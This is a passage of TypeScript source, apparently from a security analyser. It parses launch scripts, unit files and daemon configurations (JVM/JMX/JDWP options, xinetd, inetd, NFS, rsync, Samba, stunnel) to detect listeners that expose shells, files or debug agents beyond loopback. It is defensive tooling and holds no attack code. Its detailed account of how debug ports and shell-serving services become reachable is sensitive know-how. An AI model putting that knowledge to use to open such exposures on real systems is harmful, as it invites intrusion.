            ...["KAFKA_HEAP_OPTS", "KAFKA_JVM_PERFORMANCE_OPTS", "KAFKA_GC_LOG_OPTS"].flatMap(n =>
                quotedWords(value(n)),
            ),
            ...(value("KAFKA_JMX_OPTS") ? quotedWords(value("KAFKA_JMX_OPTS")) : KAFKA_DEFAULT_JMX_OPTS),
            ...(value("JMX_PORT") ? [`-Dcom.sun.management.jmxremote.port=${value("JMX_PORT")}`] : []),
            ...quotedWords(value("KAFKA_LOG4J_OPTS")),
            ...quotedWords(value("KAFKA_OPTS")),
        ],
    },
    {
        names: /^zkServer(\.sh)?$/,
        reads: /^(JMX[A-Z0-9]+|SERVER_JVMFLAGS|JVMFLAGS|ZOOCFGDIR)$/,
        sources: ({ at }, value) =>
            (value("ZOOCFGDIR") ? [value("ZOOCFGDIR")] : ["conf", "etc/zookeeper"]).flatMap(dir =>
                ["zookeeper-env.sh", "java.env"].flatMap(f => at(`${dir}/${f}`)),
            ),
        options: value => [
            ...quotedWords(value("SERVER_JVMFLAGS")),
            ...quotedWords(value("JVMFLAGS")),
            ...(/^(false)?$/.test(value("JMXDISABLE")) && value("JMXPORT")
                ? [
                      "-Dcom.sun.management.jmxremote",
                      `-Dcom.sun.management.jmxremote.port=${value("JMXPORT")}`,
                      `-Dcom.sun.management.jmxremote.authenticate=${value("JMXAUTH") || "false"}`,
                  ]
                : []),
        ],
    },
    {
        names: /^(catalina|startup)\.sh$/,
        reads: /^(CATALINA_(OPTS|BASE|HOME)|JAVA_OPTS|JPDA_\w+)$/,
        // `$CATALINA_BASE/bin/setenv.sh`, else `$CATALINA_HOME/bin/setenv.sh` (catalina.sh `if [ -r ... ] elif`; Tomcat
        // RUNNING.txt: "the one in CATALINA_BASE is preferred"): the home's first, the base's over it, failing closed
        // where both are written (a variable only the home's sets is read too).
        sources: ({ at }, value) => {
            const home = value("CATALINA_HOME") ? at(`${value("CATALINA_HOME")}/bin/setenv.sh`) : at("bin/setenv.sh");
            return [...home, ...(value("CATALINA_BASE") ? at(`${value("CATALINA_BASE")}/bin/setenv.sh`) : [])];
        },
        options: (value, args) => [
            ...quotedWords(value("JAVA_OPTS")),
            ...(args.includes("jpda")
                ? value("JPDA_OPTS")
                    ? quotedWords(value("JPDA_OPTS"))
                    : [
                          `-agentlib:jdwp=transport=${value("JPDA_TRANSPORT") || "dt_socket"},address=${
                              value("JPDA_ADDRESS") || "localhost:8000"
                          },server=y,suspend=${value("JPDA_SUSPEND") || "n"}`,
                      ]
                : []),
            ...quotedWords(value("CATALINA_OPTS")),
        ],
    },
    {
        names: /^(elasticsearch|systemd-entrypoint)$/,
        reads: /^(ES_JAVA_OPTS|ES_PATH_CONF)$/,
        optionFiles: ({ at, options }, value) =>
            (value("ES_PATH_CONF") ? [value("ES_PATH_CONF")] : ["config", "/etc/elasticsearch"]).flatMap(dir => [
                ...at(`${dir}/jvm.options`),
                ...at(`${dir}/jvm.options.d`).flatMap(options),
            ]),
        units: { names: /^elasticsearch(\.service)?$/, exec: ["/usr/share/elasticsearch/bin/systemd-entrypoint"] },
        options: value => quotedWords(value("ES_JAVA_OPTS")),
    },
    {
        names: /^solr$/,
        reads: /^(SOLR_\w+|ENABLE_REMOTE_JMX_OPTS|RMI_PORT)$/,
        sources: ({ at }, value) =>
            value("SOLR_INCLUDE")
                ? [value("SOLR_INCLUDE")]
                : ["/etc/default/solr.in.sh", "bin/solr.in.sh", "/opt/solr/solr.in.sh"].flatMap(at),
        options: (value, args) => [
            ...(value("ENABLE_REMOTE_JMX_OPTS") === "true" ? openJmx(value("RMI_PORT") || "18983") : []),
            ...quotedWords(value("SOLR_OPTS")),
            ...args.flatMap((a, i) => (args[i - 1] === "-a" ? quotedWords(a) : [])),
        ],
    },
    {
        names: /^cassandra$/,
        reads: /^(JVM_OPTS|JVM_EXTRA_OPTS|CASSANDRA_CONF)$/,
        sources: ({ at }, value) =>
            (value("CASSANDRA_CONF") ? [value("CASSANDRA_CONF")] : ["conf", "/etc/cassandra"]).flatMap(dir =>
                at(`${dir}/cassandra-env.sh`),
            ),
        optionFiles: ({ at, options }, value) =>
            (value("CASSANDRA_CONF") ? [value("CASSANDRA_CONF")] : ["conf", "/etc/cassandra"]).flatMap(dir =>
                at(dir).flatMap(options),
            ),
        units: { names: /^cassandra(\.service)?$/, exec: ["/usr/sbin/cassandra", "-f"] },
        options: value => [...quotedWords(value("JVM_OPTS")), ...quotedWords(value("JVM_EXTRA_OPTS"))],
    },
];
/** The JVM_LAUNCHER_SCRIPTS entry of a program. */
const jvmLauncherScript = (program: string) => JVM_LAUNCHER_SCRIPTS.find(s => s.names.test(program));
/** Programs that start a JVM with the java launcher: java, and JVM_LAUNCHER_SCRIPTS. */
const isJvmLauncher = (program: string) => program === "java" || jvmLauncherScript(program) !== undefined;
/**
 * What a server's packaged unit runs, by unit name: 3proxy's (3proxy/3proxy scripts/3proxy.service:
 * `ExecStart=/bin/3proxy ${CONFIGFILE}`, `Environment=CONFIGFILE=/etc/3proxy/3proxy.cfg`).
 */
const PACKAGED_SERVER_UNITS: Record<string, string[][]> = {
    "3proxy": [["/bin/3proxy", "/etc/3proxy/3proxy.cfg"]],
};
/**
 * The units a command starts now or at boot, `NAME.service` for a bare NAME: `systemctl start|restart|enable|...`
 * (systemctl(1): reload-or-restart and try-restart start or restart, preset may enable), and the SysV-style front ends
 * systemd and the distributions route to it: service(8) "service SCRIPT COMMAND" (`start`, `restart`,
 * `--full-restart`...: under systemd `systemctl COMMAND SCRIPT`), invoke-rc.d(8) `NAME start|restart`, chkconfig(8)
 * `NAME on` / `--add NAME`, update-rc.d(8) `NAME defaults|enable`, OpenRC's rc-service `NAME start` and rc-update
 * `add NAME`.
 */
function startedUnits(words: readonly string[]): string[] {
    const program = posix.basename(words[0] ?? "");
    const operands = words.slice(1).filter(w => !w.startsWith("-") || /^--(full-restart|add)$/.test(w));
    const [first, second] = operands;
    const starts =
        /^(start|restart|force-restart|try-restart|condrestart|reload-or-restart|force-reload|--full-restart)$/;
    const names =
        program === "systemctl" &&
        /^(start|restart|try-restart|reload-or-restart|try-reload-or-restart|condrestart|force-reload|enable|reenable|preset)$/.test(
            first ?? "",
        )
            ? operands.slice(1)
            : /^(service|invoke-rc\.d|rc-service)$/.test(program) && starts.test(second ?? "")
              ? [first]
              : program === "chkconfig" && operands.includes("--add")
                ? [operands[operands.indexOf("--add") + 1] ?? ""]
                : program === "chkconfig" && operands.at(-1) === "on"
                  ? [operands.filter(w => !/^\d+$/.test(w)).at(-2) ?? ""]
                  : (program === "update-rc.d" && /^(defaults|enable|start)$/.test(second ?? "")) ||
                      (program === "rc-update" && first === "add")
                    ? [program === "rc-update" ? (second ?? "") : first]
                    : [];
    return names.filter(n => n !== "").map(n => (/\.[a-z]+$/.test(n) ? n : `${n}.service`));
}
/**
 * The command a started unit user data does not write runs (startedUnits), with what it reads besides the variables
 * user data's drop-ins give it (unitEnvironment): a JVM launcher's packaged unit (JvmLauncher's `units`) runs its
 * launcher; any other unit user data only extends runs its package's program, which the pack does not know: named by
 * the unit (unitEnvironment gives the drop-ins' variables to that name), an unknown JVM launcher for
 * jvmEnvironmentOptions. Either reads the environment file its package names by the distributions' convention when user
 * data writes one: `/etc/default/NAME` (Debian) or `/etc/sysconfig/NAME` (RHEL), as Elasticsearch's packaged
 * elasticsearch.service (`EnvironmentFile=-/etc/default/elasticsearch`, `-/etc/sysconfig/elasticsearch` in the RPM's)
 * and Debian's tomcat9.service (`EnvironmentFile=-/etc/default/tomcat9`) do. Undefined for no such unit.
 */
function packagedUnitCommand(
    words: readonly string[],
    given: readonly GivenVariable[],
    fileText: ((path: string) => string | undefined) | undefined,
): { command: string[]; given: GivenVariable[] } | undefined {
    for (const unit of startedUnits(words)) {
        const command =
            JVM_LAUNCHER_SCRIPTS.find(s => s.units?.names.test(unit))?.units?.exec ??
            (given.some(v => v.program === unit) ? [unit] : undefined);
        if (command === undefined) continue;
        const name = unit.replace(/\.service$/, "");
        const program = posix.basename(command[0]);
        const files = [`/etc/default/${name}`, `/etc/sysconfig/${name}`].filter(f => fileText?.(f) !== undefined);
        return { command, given: files.map(file => ({ file, program })) };
    }
    return undefined;
}
/** The programs a JVM launcher's packaged unit runs (packagedUnitCommand), for a unit named `unit`. */
const jvmPackagedUnitPrograms = (unit: string) =>
    JVM_LAUNCHER_SCRIPTS.flatMap(s => (s.units?.names.test(unit) ? [posix.basename(s.units.exec[0])] : []));
/**
 * The variables the JVM or its java launcher reads, in any process that starts one (any program may: Tomcat's
 * catalina.sh, a vendor's wrapper): JAVA_TOOL_OPTIONS (Java SE Troubleshooting Guide, "The JAVA_TOOL_OPTIONS Environment
 * Variable": JNI_CreateJavaVM prepends it, for JVMs started "deeply nested in scripts") and _JAVA_OPTIONS (JDK-8170832:
 * both "are interpreted by the VM"), and JDK_JAVA_OPTIONS, which the java launcher reads whoever runs it (java(1)
 * "Using the JDK_JAVA_OPTIONS Launcher Environment Variable"; Tomcat's catalina.sh exports it to `$_RUNJAVA`).
 */
const JVM_READ_VARIABLES = JVM_OPTION_VARIABLES;
/**
 * Variables a program reads whatever its name because it may start a JVM: JVM_READ_VARIABLES for any, and a launcher
 * script's own (JVM_LAUNCHER_SCRIPTS).
 */
const jvmLauncherReads = (program: string, name: string) =>
    JVM_READ_VARIABLES.test(name) || (jvmLauncherScript(program)?.reads.test(name) ?? false);
/**
 * A JVM launcher script's files (JvmLauncher): the assignments of the shell files it sources (NAME=VALUE, `export`,
 * `$NAME`/`${NAME}` expanded from those before, backslash-newlines joined), and the options of its options files,
 * `unread` those user data does not write in full or changes, and a sourced file computing a value (`$(...)`,
 * backquotes), sourcing or evaluating another, or quoting a value across lines: it may set anything.
 */
function jvmLauncherFiles(
    script: JvmLauncher,
    path: string | undefined,
    variables: readonly { name: string; value: string }[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { variables: { name: string; value: string }[]; options: string[]; unread: string[] } {
    const home = path?.startsWith("/") ? posix.dirname(posix.dirname(posix.normalize(path))) : undefined;
    const written = [...(view.written?.() ?? [])];
    const files: JvmLauncherFiles = {
        at: p =>
            p.startsWith("/")
                ? [posix.normalize(p)]
                : home !== undefined
                  ? [posix.join(home, p)]
                  : [
                        ...new Set(
                            written.flatMap(w => {
                                const tail = `/${posix.normalize(p)}`;
                                const i = `${w}/`.indexOf(`${tail}/`);
                                return i > 0 ? [w.slice(0, i + tail.length)] : [];
                            }),
                        ),
                    ],
        // An options directory a copy or unpacking filled may hold any file: its own name read as unread.
        options: dir => [
            ...written.filter(w => posix.dirname(w) === dir && w.endsWith(".options")).sort(),
            ...(view.changed.has(`${dir}/*.options`) ? [`${dir}/*.options`] : []),
        ],
    };
    const out = [...variables];
    const value = (name: string) => out.filter(v => v.name === name).at(-1)?.value ?? "";
    const unread: string[] = [];
    for (const file of [...new Set(script.sources?.(files, value) ?? [])]) {
        const read = readConfig(file, fileText, view);
        if (read === undefined) continue;
        const text = read?.replace(/\\\r?\n/g, " ");
        // A value computed, read from another file (`.`, `source`, `eval`) or quoted across lines may be anything.
        const opaque = (t: string) =>
            /\$\(|`|^\s*(\.|source|eval)\s/m.test(t) ||
            t.split(/\r?\n/).some(line => (line.replace(/'[^']*'/g, "").match(/"/g) ?? []).length % 2 === 1);
        if (text == null || opaque(text)) {
            unread.push(file);
            continue;
        }
        for (const v of environmentFileVariables(text))
            out.push({
                name: v.name,
                value: v.value.replace(/\$\{?([A-Za-z_]\w*)\}?/g, (_, n: string) => value(n)),
            });
    }
    const options: string[] = [];
    for (const file of [...new Set(script.optionFiles?.(files, value) ?? [])]) {
        const text = readConfig(file, fileText, view);
        if (text === undefined) continue;
        if (text === null) unread.push(file);
        else
            options.push(
                ...text
                    .split(/\r?\n/)
                    .filter(line => !/^\s*#/.test(line))
                    .flatMap(line => quotedWords(line.replace(/^\s*\d+(-\d*)?:/, ""))),
            );
    }
    return { variables: out, options, unread };
}
/**
 * The JVM options a program's environment gives it around its command line's (jvmAgentListeners), each variable's
 * last value: JAVA_TOOL_OPTIONS and JDK_JAVA_OPTIONS (its `@FILE`s expanded as the command line's), then for a java
 * launcher its other options variables (`options`: JAVA_OPTS) and its launcher script's (JVM_LAUNCHER_SCRIPTS, run
 * from `path` with `args`: its options files', then those it makes of its variables, the files it sources
 * included) before, _JAVA_OPTIONS after; `-XX:VMOptionsFile=FILE` expanded in each (jvmOptionFiles), `unread` the
 * option and sourced files user data does not write in full or changes.
 */
function jvmEnvironmentOptions(
    program: string,
    variables: readonly { name: string; value: string }[],
    options: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    path?: string,
    args: readonly string[] = [],
): { before: string[]; after: string[]; unread: string[] } {
    const script = jvmLauncherScript(program);
    const files = script
        ? jvmLauncherFiles(script, path, variables, fileText, view)
        : { variables, options: [], unread: [] };
    const value = (name: string) => files.variables.filter(v => v.name === name).at(-1)?.value ?? "";
    const launcher = isJvmLauncher(program);
    const others = [...new Set(options)].filter(n => !JVM_OPTION_VARIABLES.test(n) && !script?.reads.test(n));
    // Another program reaches JDK_JAVA_OPTIONS only through a java launcher it runs, which exits at an `@FILE` that is
    // not there (OpenJDK args.c expandArgFile: "could not open", exit(1)): one user data has not written yet starts
    // no JVM. java and the launcher scripts keep round 52's rule (an argument file not written is unread).
    const jdkJavaOptions = quotedWords(value("JDK_JAVA_OPTIONS")).filter(w => {
        const argumentFile = javaArgumentFile(w, []);
        return launcher || argumentFile === undefined || readConfig(argumentFile, fileText, view) !== undefined;
    });
    const expanded = [
        jvmOptionFiles(quotedWords(value("JAVA_TOOL_OPTIONS")), false, fileText, view),
        jvmOptionFiles(jdkJavaOptions, true, fileText, view),
        ...(launcher
            ? [
                  jvmOptionFiles(
                      [
                          ...others.flatMap(n => quotedWords(value(n))),
                          ...files.options,
                          ...(script?.options(value, args) ?? []),
                      ],
                      false,
                      fileText,
                      view,
                  ),
              ]
            : []),
    ];
    // A program the pack does not know as a JVM launcher may be one (ActiveMQ's bin/activemq runs `$JAVACMD
    // $ACTIVEMQ_OPTS ...`, jetty.sh its JAVA_OPTIONS, a packaged unit's program its drop-ins' JAVA_OPTS): the JVM
    // options found in any variable it is given are read as its JVM's (jvmAgentOptionWords), failing closed.
    const unknownLauncher = launcher
        ? []
        : files.variables.filter(v => !JVM_OPTION_VARIABLES.test(v.name)).flatMap(v => jvmAgentOptionWords(v.value));
    const after = jvmOptionFiles(quotedWords(value("_JAVA_OPTIONS")), false, fileText, view);
    return {
        before: [...expanded.flatMap(e => e.words), ...unknownLauncher],
        after: after.words,
        unread: [...files.unread, ...[...expanded, after].flatMap(e => e.unread)],
    };
}

/**
 * The fail-closed listeners an unread root program's environment makes (unreadListeners judges its words): the
 * variables given to it (environmentGiven, unitEnvironment), and those given to every later program when it may read
 * them: its own settings, named with its name as their prefix (uvicorn's UVICORN_HOST, Flask's FLASK_RUN_HOST) or
 * Kestrel's (KESTREL_URLS, KESTREL_PORTS: any program may be an ASP.NET Core app), or any
 * when it is a LISTENER_PROGRAM or an interpreter running an application (which commonly takes HOST and PORT from its
 * environment). Beyond loopback (mayBeNodeAddress) is:
 * - a LISTEN_VARIABLE's value that is not a bare port, or any variable's value that is allAddressesValue;
 * - a URL of a LISTEN_URLS_VARIABLE (KESTREL_URLS: any host but loopback);
 * - where an ARGUMENTS_VARIABLE of its own or given to it alone makes it listen, its words read as its arguments;
 * - every address, for an environment file user data does not write in full or changes after writing it (in place,
 *   appended to, copied or downloaded onto: viewingJudge's `changed`): it may hold any setting.
 * A client setting (clientSetting: CLIENT_VARIABLE, DB_HOST) names the server a client talks to, and a known client (KNOWN_CLIENTS, by the command's own words:
 * `vault login` with VAULT_ADDR exported) listens on none.
 */
function environmentListeners(
    words: readonly string[],
    givenToAll: readonly GivenVariable[],
    root: boolean,
    cwd: string | undefined,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Listener[] {
    // A packaged unit started by name runs its ExecStart (packagedUnitCommand); a launcher script reads its files
    // whatever its environment (jvmLauncherFiles).
    const packaged = packagedUnitCommand(words, givenToAll, fileText);
    const command = packaged?.command ?? words;
    const given = [...givenToAll, ...(packaged?.given ?? [])];
    if (given.length === 0 && jvmLauncherScript(posix.basename(command[0] ?? "")) === undefined) return [];
    const { unread } = readServers(command, cwd, fileText, root, NO_VIEW);
    if (!unread || knownClient(unread.program, unread.args)) return [];
    const { program } = unread;
    const own = `${program.toUpperCase().replace(/[^A-Z0-9]/g, "_")}_`;
    // JVM options exported reach any later program that is not a JVM launcher the pack knows: it may be one
    // (jvmEnvironmentOptions' unknown launcher); the shell's assigning builtins run none.
    const mayLaunchJvm = !isJvmLauncher(program) && !/^(export|declare|typeset|local|readonly)$/.test(program);
    // Kestrel's settings are read by any ASP.NET Core app, whatever its program's name (a self-contained app's own).
    const toIt = given.filter(v =>
        v.program === undefined
            ? ("name" in v &&
                  (v.name.startsWith(own) ||
                      kestrelListens(v.name, "") !== undefined ||
                      jvmLauncherReads(program, v.name) ||
                      (mayLaunchJvm && jvmAgentOptionWords(v.value).length > 0))) ||
              LISTENER_PROGRAM.test(program) ||
              INTERPRETERS.test(program)
            : v.program === program,
    );
    // An environment file changed after it is written (sed -i, an append, a copy onto it: readConfig) is as unread.
    const unreadFiles = toIt.flatMap(v => ("file" in v && readConfig(v.file, fileText, view) == null ? [v.file] : []));
    const variables = toIt.flatMap(v =>
        "file" in v
            ? environmentFileVariables(readConfig(v.file, fileText, view) ?? "").map(f => ({
                  ...f,
                  program: v.program,
              }))
            : [v],
    );
    const itsArguments = ({ name, program: to }: { name: string; program?: string }) =>
        ARGUMENTS_VARIABLE.test(name) && (to === program || name.startsWith(own) || jvmLauncherReads(program, name));
    const beyondLoopback = ({ name, value, program: to }: { name: string; value: string; program?: string }) => {
        if (clientSetting(name, program, value)) return [];
        // FLASK_DEBUG puts a script's app.run in debug mode (flaskScriptListeners reads it with the script).
        if (name === "FLASK_DEBUG" && /^python[0-9.]*$/.test(program))
            return flaskScriptListeners(unread.args, cwd, program, fileText, view, value).flatMap(l =>
                l.binds.length === 0 ? ["0.0.0.0"] : l.binds.filter(b => !loopbackOnly([b])),
            );
        // NODE_OPTIONS (Node.js "Command-line API": "A space-separated list of command-line options ... interpreted
        // before command-line options"; --require/--import preload a module): the program read with them.
        if (name === "NODE_OPTIONS" && /^(node|nodejs)$/.test(program))
            return nodeFileServerListeners(
                [...quotedWords(value), ...unread.args],
                cwd,
                program,
                fileText,
                view,
            ).flatMap(l => (l.binds.length === 0 ? ["0.0.0.0"] : l.binds.filter(b => !loopbackOnly([b]))));
        if (itsArguments({ name, program: to }))
            return unreadListeners(program, quotedWords(value)).flatMap(l =>
                l.binds.length === 0 ? ["0.0.0.0"] : l.binds.filter(b => !loopbackOnly([b])),
            );
        const kestrel = kestrelListens(name, value);
        if (kestrel) return kestrel;
        if (LISTEN_URLS_VARIABLE.test(name)) return listItems(value).filter(url => mayBeNodeAddress(url));
        return allAddressesValue(value) ||
            (LISTEN_VARIABLE.test(name) &&
                !/^\d+$/.test(value) &&
                (!/PORT$/.test(name) || /:\d+$/.test(value)) &&
                mayBeNodeAddress(value))
            ? [value]
            : [];
    };
    const listening = variables.map(v => ({ ...v, binds: beyondLoopback(v) })).filter(v => v.binds.length > 0);
    // The JVM agents its environment's options start (jvmEnvironmentOptions), beyond those of its command line alone.
    const jvmOptions = jvmEnvironmentOptions(
        program,
        variables,
        variables.filter(itsArguments).map(v => v.name),
        fileText,
        view,
        // A name without a slash is found on PATH (bash(1) "COMMAND EXECUTION"): its installation unknown.
        !command[0]?.includes("/") ? undefined : cwd === undefined ? command[0] : posix.resolve(cwd, command[0]),
        unread.args,
    );
    const javaArgs = program === "java" ? unread.args : [];
    const java = program === "java" ? command[0] : undefined;
    const commandLineOnly = new Set(jvmAgentListeners(javaArgs, fileText, view, undefined, java).map(l => l.server));
    const jvmAgents = jvmAgentListeners(javaArgs, fileText, view, jvmOptions, java)
        .filter(l => !commandLineOnly.has(l.server))
        .map(l => ({ ...l, server: `${program} (its environment's JVM options: ${l.server})` }));
    return [
        ...jvmAgents,
        ...(listening.length === 0
            ? []
            : [
                  {
                      server: `${program} (its environment: ${listening.map(v => `${v.name}=${v.value}`).join(" ")})`,
                      binds: listening.flatMap(v => v.binds),
                      serves: { unread: program },
                  },
              ]),
        ...unreadFiles.map(file => ({
            server: `${program} (its EnvironmentFile=${file}, which user data does not write in full, or changes after writing it)`,
            binds: [],
            serves: { unread: program },
        })),
    ];
}

/**
 * xinetd's services that run (xinetd.conf(5): `service NAME { ... }`; `disable = yes` and the defaults' `disabled` list
 * turn one off), each with its attributes' values, the defaults block's where the service sets none.
 */
function xinetdServices(text: string): { name: string; get: (key: string) => string[] }[] {
    const blocks = [...text.replace(/#.*$/gm, "").matchAll(/^[ \t]*(defaults|service[ \t]+(\S+))\s*\{([^}]*)\}/gm)];
    const attributes = (body: string) => {
        const out = new Map<string, string[]>();
        for (const m of body.matchAll(/^\s*([a-z_]+)\s*([+-]?=)\s*(.*?)\s*$/gm)) {
            const values = m[3].split(/\s+/).filter(Boolean);
            const before = out.get(m[1]) ?? [];
            out.set(m[1], m[2] === "+=" ? [...before, ...values] : m[2] === "-=" ? before : values);
        }
        return out;
    };
    const defaults = attributes(
        blocks
            .filter(b => b[1] === "defaults")
            .map(b => b[3])
            .join("\n"),
    );
    return blocks.flatMap(([, , name, body]) => {
        if (name === undefined) return [];
        const attrs = attributes(body);
        const get = (key: string) => attrs.get(key) ?? defaults.get(key) ?? [];
        return /^yes$/i.test(get("disable")[0] ?? "") || (defaults.get("disabled") ?? []).includes(name)
            ? []
            : [{ name, get }];
    });
}

/**
 * xinetd services (xinetdServices; xinetd.conf(5): a service runs `server` with `server_args` on each connection, its
 * standard input and output the socket; `bind`/`interface` its address, `only_from` its clients, `type = INTERNAL` is
 * a built-in such as echo).
 */
function xinetdListeners(text: string): Listener[] {
    return xinetdServices(text).flatMap(({ name, get }): Listener[] => {
        if (get("type").some(t => /^INTERNAL$/i.test(t))) return [];
        // flags NAMEINARGS: "the first argument in "server_args" [is] argv[0]" (xinetd.conf(5)), as tcpd takes it.
        const server = get("server")[0] ?? "";
        const argv = get("flags").includes("NAMEINARGS") ? get("server_args") : [server, ...get("server_args")];
        const command = superServed(server, argv).join(" ");
        return [
            {
                server: `xinetd service ${name} running ${command}`,
                binds: [...get("bind"), ...get("interface")],
                allowed: get("only_from"),
                serves: { shell: command },
            },
        ];
    });
}

/**
 * The command line a super-server runs for a connection, from its server program and the argv it gives it: the
 * program with argv[1..], or, when the program is tcpd(8), argv[0] with its arguments (Debian Administrator's
 * Handbook, "The inetd super-server": "tcpd relies on the name under which it was invoked (that is, the first
 * argument, argv[0]) to identify the real program to run"; a bare name is in its REAL_DAEMON_DIR). tcpd's
 * hosts.allow/hosts.deny admit every client unless user data writes them (hosts_access(5)), which the pack does not
 * read: they change nothing.
 */
const superServed = (server: string, argv: readonly string[]) =>
    posix.basename(server) === "tcpd" ? argv : [server, ...argv.slice(1)];

/**
 * inetd.conf lines (inetd(8): `[addr:]service socket-type protocol wait user server-program server-program-arguments`,
 * the arguments from argv[0]; `internal` is a built-in).
 */
function inetdListeners(text: string): Listener[] {
    return text.split(/\r?\n/).flatMap((line): Listener[] => {
        const f = line.replace(/#.*$/, "").trim().split(/\s+/);
        if (f.length < 6 || f[5] === "internal") return [];
        const address = /^(.*):[^:\]]+$/.exec(f[0])?.[1];
        const command = superServed(f[5], f.slice(6)).join(" ");
        return [
            {
                server: `inetd service ${f[0]} running ${command}`,
                binds: address ? [address] : [],
                serves: { shell: command },
            },
        ];
    });
}

/**
 * NFS exports (exports(5): `/path client(options) ...`, a continuation with `\`; a client `*`, or none, is every
 * host). A pod reaches an export without privileges: Pod Security baseline allows `nfs` volumes (Kubernetes "Pod
 * Security Standards"; podSpec.ts confines nfs as a share of nothing of the node), the kubelet mounting it as root.
 */
function exportsListeners(text: string): Listener[] {
    return text
        .replace(/\\\r?\n/g, " ")
        .split(/\r?\n/)
        .flatMap((line): Listener[] => {
            const words = line.replace(/#.*$/, "").match(/"[^"]*"|\S+/g) ?? [];
            const path = words[0]?.replace(/^"|"$/g, "") ?? "";
            if (!path.startsWith("/")) return [];
            const clients = words
                .slice(1)
                .filter(w => !w.startsWith("-"))
                .map(w => w.replace(/\(.*$/, "") || "*");
            return [
                {
                    server: `an NFS export (${line.trim()})`,
                    binds: [],
                    allowed: clients.length > 0 ? clients : ["*"],
                    serves: { files: path },
                },
            ];
        });
}

/** The default configuration files of the rsync daemon (rsync(1) --config) and Samba (smbd(8) --configfile). */
const RSYNCD_CONF = "/etc/rsyncd.conf";
const SMB_CONF = "/etc/samba/smb.conf";
const exactly = (path: string) => new RegExp(`^${path.replace(/[.]/g, "\\.")}$`);

/**
 * An INI file's sections as rsyncd.conf(5) and smb.conf(5) read them: parameters before the first section, or in
 * [global], are the globals and the sections' defaults; names ignore case, white space and underscores; `#` and `;`
 * start comments, and a trailing backslash continues a line (smb.conf(5)).
 */
function iniSections(text: string): {
    global: Map<string, string>;
    sections: { name: string; params: Map<string, string> }[];
} {
    const global = new Map<string, string>();
    const sections: { name: string; params: Map<string, string> }[] = [];
    let current = global;
    for (const raw of text.replace(/\\\r?\n/g, " ").split(/\r?\n/)) {
        const line = raw.trim();
        const header = /^\[([^\]]*)\]$/.exec(line);
        if (header) {
            const name = header[1].trim();
            current = name.toLowerCase() === "global" ? global : new Map();
            if (current !== global) sections.push({ name, params: current });
            continue;
        }
        const kv = /^([^#;=][^=]*?)\s*=\s*(.*)$/.exec(line);
        if (kv) current.set(kv[1].toLowerCase().replace(/[\s_]/g, ""), kv[2].trim());
    }
    return { global, sections };
}

/** A list parameter's values (hosts allow, interfaces: blanks or commas between them). */
const listParameter = (value: string | undefined) => (value ?? "").split(/[\s,]+/).filter(Boolean);

/**
 * rsync daemon modules (rsyncd.conf(5): `[module]` with `path`; `hosts allow` "If this parameter is not specified then
 * all hosts can connect", global or per module; the global `address` the daemon listens on). `auth users` checks a
 * password, which user data would hold: it changes nothing. `overrides` are the command line's: rsync(1) -M/--dparam
 * is "equivalent to adding the parameter at the end of the global settings", and --address supersedes `address`
 * (rsyncd.conf(5)).
 */
function rsyncdListeners(text: string, overrides: readonly [string, string][] = []): Listener[] {
    const { global, sections } = iniSections(text);
    for (const [k, v] of overrides) global.set(k.toLowerCase().replace(/[\s_]/g, ""), v);
    const address = global.get("address");
    return sections.flatMap(({ name, params }): Listener[] => {
        const path = params.get("path") ?? global.get("path");
        const allow = params.get("hostsallow") ?? global.get("hostsallow");
        return path === undefined
            ? []
            : [
                  {
                      server: `rsync daemon module [${name}] (path ${path})`,
                      binds: address ? [address] : [],
                      allowed: listParameter(allow),
                      serves: { files: path },
                  },
              ];
    });
}

/**
 * Samba shares (smb.conf(5)): each section but [global], [homes] and [printers] with a `path` (or `directory`) is
 * served; smbd listens on every address unless `bind interfaces only = yes` limits it to `interfaces` (names, `lo`
 * the loopback, or addresses); `hosts allow` in [global] "will apply to all services, regardless of whether the
 * individual service has a different setting", a share's to that share; `available = no` turns a share off. Who logs
 * in (guest ok, valid users, force user = root: "all file operations will be performed as the forced user") changes
 * nothing, as rsync's auth users: the share's files go to whoever holds the password user data sets, or to anyone as
 * guest. A path with a substitution (%S, %u) is one the pack cannot know.
 */
function sambaListeners(text: string): Listener[] {
    const { global, sections } = iniSections(text);
    const yes = (v: string | undefined) => /^(yes|true|1|on)$/i.test(v ?? "");
    const binds = yes(global.get("bindinterfacesonly"))
        ? listParameter(global.get("interfaces")).map(interfaceAddress)
        : [];
    return sections.flatMap(({ name, params }): Listener[] => {
        const path = params.get("path") ?? params.get("directory");
        if (
            path === undefined ||
            /^(homes|printers)$/i.test(name) ||
            /^(no|false|0|off)$/i.test(params.get("available") ?? "")
        )
            return [];
        const allows = [global.get("hostsallow"), params.get("hostsallow")]
            .map(listParameter)
            .filter(a => a.length > 0);
        return [
            {
                server: `Samba share [${name}] (path ${path})`,
                binds,
                allowed: allows.find(a => loopbackOnly(a)) ?? allows[0] ?? [],
                serves: { files: path.includes("%") ? undefined : path },
            },
        ];
    });
}

/**
 * stunnel services that run a program on each connection (stunnel(8) "SERVICE-LEVEL OPTIONS": `exec =
 * executable_path` "Execute a local inetd-type program", `execArgs = $0 $1 $2 ...` its arguments "including the
 * program name ($0)"), listening on `accept = [host:]port` ("If no host specified, defaults to all IP addresses for
 * the local host"): a super-server, judged as xinetd's services are. Relays (`connect`) are relayForwarders'.
 */
function stunnelListeners(text: string): Listener[] {
    const services: { name: string; options: Map<string, string[]> }[] = [];
    for (const l of configLines(text)) {
        const header = /^\s*\[([^\]]*)\]\s*$/.exec(l);
        if (header) services.push({ name: header[1], options: new Map() });
        const option = /^\s*(accept|exec|execArgs)\s*=\s*(.*?)\s*$/i.exec(l);
        const service = services.at(-1);
        if (option && service) {
            const key = option[1].toLowerCase();
            service.options.set(key, [...(service.options.get(key) ?? []), option[2]]);
        }
    }
    return services.flatMap(({ name, options }): Listener[] => {
        const [program] = options.get("exec") ?? [];
        const accept = options.get("accept") ?? [];
        if (program === undefined || accept.length === 0) return [];
        const args = (options.get("execargs")?.[0] ?? program).split(/\s+/).slice(1);
        const command = [program, ...args].join(" ");
        return [
            {
                server: `stunnel service [${name}] running ${command}`,
                binds: accept.map(a => (/^\d+$/.test(a) ? `0.0.0.0:${a}` : a)),
                serves: { shell: command },
            },
        ];
    });
}

/** Configuration files of servers (SERVERS' kin, started as services), by path, read into their listeners. */
const SERVER_CONFIGS: { path: RegExp; read: (content: string) => Listener[] }[] = [
